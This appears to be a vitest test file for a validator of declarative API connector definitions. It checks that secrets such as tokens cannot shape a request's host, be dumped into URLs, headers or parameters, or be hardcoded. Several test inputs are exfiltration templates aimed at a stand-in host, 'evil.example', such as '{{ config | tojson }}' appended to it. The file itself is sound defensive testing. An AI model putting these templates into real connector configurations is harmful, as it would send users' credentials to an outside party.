import { expect, test } from 'vitest'
import { parseDefinition } from './parse.ts'
import { secretKeys, soundsLikeCredential } from './secrets.ts'

const plain = {
  type: 'DeclarativeStream',
  primary_key: 'id',
  requester: {
    url: 'https://api.example/people',
    authenticator: { type: 'BearerAuthenticator', api_token: "{{ config['token'] }}" },
  },
  extractor: { field_path: ['data'] },
}

function read(requester: object, extractor: object = {}, more: object = {}) {
  return parseDefinition(
    JSON.stringify({
      type: plain.type,
      primary_key: plain.primary_key,
      retriever: {
        requester: { ...plain.requester, ...requester },
        record_selector: { extractor: { ...plain.extractor, ...extractor } },
      },
      ...more,
    }),
  )
}

function problemsOf(...parts: Parameters<typeof read>): string {
  const parsed = read(...parts)
  return 'problems' in parsed ? parsed.problems.map(({ text }) => text).join('\n') : ''
}

const token = "config['token']"

test.each([
  ["https://{{ 'api.example' if config['token'] == 'unknown' else 'evil.example' }}/x"],
  ["https://{{ config['token'] == 'unknown' and 'api.example' or 'evil.example' }}/x"],
  [
    "{% if config.token == 'unknown' %}https://api.example{% else %}https://evil.example{% endif %}",
  ],
  ["https://{{ 'evil.example' if config.get('token') else 'api.example' }}/x"],
  ['https://api.example/{{ config.token }}'],
])('A secret decides nothing of the address %s', (url) => {
  expect(problemsOf({ url })).toContain("retriever.requester.url: 'token' is a secret")
})

test.each([
  ["https://{{ config['to' ~ 'ken'] }}.evil.example"],
  ['https://evil.example/{{ config[parameters.key] }}'],
  ['https://evil.example/{{ config | tojson }}'],
  ["https://evil.example/{{ config.get('to' ~ 'ken') }}"],
  ['https://evil.example/{{ config.items() | first }}'],
  ["https://evil.example/{{ {'a': config} | tojson }}"],
  ["https://evil.example/{{ 'b' if 'S3' in config else 'a' }}"],
])('The config is read by keys that are written out only, not as in %s', (url) => {
  expect(problemsOf({ url })).toContain("'config' can be read by a key that is written out only")
})

test.each([
  ["https://{{ 'evil.example' if next_page_token else 'api.example' }}/x"],
  ["{{ config['url'] }}{{ next_page_token.next_page_token }}/x"],
  ['{% if next_page_token %}https://evil.example/{% else %}https://api.example/{% endif %}'],
])('The page that is asked for does not choose the system: %s', (url) => {
  expect(problemsOf({ url })).toContain("'next_page_token' may not decide which system is asked")
})

test('Behind the host the page may stand in the address', () => {
  const url = "{{ config['url'] }}/people/{{ next_page_token.next_page_token }}"
  expect(problemsOf({ url })).toBe('')
})

test.each<[string, object, object, object]>([
  ['the path of the list', {}, { field_path: [`{{ ${token} }}`] }, {}],
  [
    "a record's own field",
    {},
    {
      record_expander: {
        expand_records_from_field: ['people'],
        parent_fields: [{ parent_path: ['o'], record_path: [`leak {{ ${token} }}`] }],
      },
    },
    {},
  ],
  ['the total', {}, {}, { gangway: { total: `{{ ${token} }}` } }],
  ['a parameter', { request_parameters: { name: `{{ ${token} }}` } }, {}, {}],
  ["a parameter's name", { request_parameters: { [`{{ ${token} }}`]: 'x' } }, {}, {}],
  ['a header', { request_headers: { 'X-Note': `{{ ${token} | upper }}` } }, {}, {}],
  ['the path', { url: undefined, url_base: 'https://a.example', path: `{{ ${token} }}` }, {}, {}],
])('A secret does not stand in %s', (_where, requester, extractor, more) => {
  expect(problemsOf(requester, extractor, more)).toContain("'token' is a secret")
})

test.each<[string, object]>([
  ['api_token', { authenticator: { type: 'BearerAuthenticator', api_token: 'S3CRET' } }],
  ['api_token', { authenticator: { type: 'BearerAuthenticator', api_token: "{{ 'S3CRET' }}" } }],
  [
    'api_token',
    {
      authenticator: {
        type: 'BearerAuthenticator',
        api_token: "{{ config['token'] | default('S3CRET') }}",
      },
    },
  ],
  [
    'api_token',
    {
      $parameters: { key: 'S3CRET' },
      authenticator: { type: 'BearerAuthenticator', api_token: '{{ parameters.key }}' },
    },
  ],
  [
    'password',
    { authenticator: { type: 'BasicHttpAuthenticator', username: 'robin', password: 'S3CRET' } },
  ],
  ['username', { authenticator: { type: 'BasicHttpAuthenticator', username: 'S3CRET' } }],
  ['Authorization', { request_headers: { Authorization: 'Bearer S3CRET' } }],
  ['X-Api-Key', { request_headers: { 'X-Api-Key': 'S3CRET' } }],
  ['Cookie', { request_headers: { Cookie: 'session=S3CRET' } }],
  ['api_key', { request_parameters: { api_key: 'S3CRET' } }],
  ['access_token', { request_parameters: { access_token: 'S3CRET' } }],
])('A credential is not written into a definition as %s', (name, requester) => {
  const problems = problemsOf(requester)
  expect(problems).toContain(`${name}: a credential may not be written into a definition`)
  expect(problems).not.toContain('S3CRET')
})

test.each([
  ['https://robin:S3CRET@api.example/', 'the address holds a user name or password'],
  ['https://api.example/?event=1&api_key=S3CRET', "the address holds 'api_key'"],
])('A credential does not stand in the address %s', (url, text) => {
  expect(problemsOf({ url })).toContain(text)
})

test('Credentials of every kind are secrets, and what tells of a place or a page is none', () => {
  const parsed = read({
    url: "https://{{ config['region'] }}.api.example/",
    request_headers: { 'X-Client-Key': "{{ config['client_key'] }}" },
    request_parameters: { event: "{{ config['event'] }}", include_secret: false },
  })
  if ('problems' in parsed) throw new Error(parsed.problems[0]!.text)
  expect(secretKeys(parsed.definition)).toEqual(['token', 'client_key'])
})

test.each(['key', 'apikey', 'X-Api-Key', 'accessToken', 'client_secret', 'X-Auth-Token', 'pwd'])(
  '%s sounds like a credential',
  (name) => {
    expect(soundsLikeCredential(name)).toBe(true)
  },
)

test.each(['page_token', 'sort_key', 'author', 'keyword', 'event_key', 'nextToken', 'compass'])(
  '%s sounds like none',
  (name) => {
    expect(soundsLikeCredential(name)).toBe(false)
  },
)
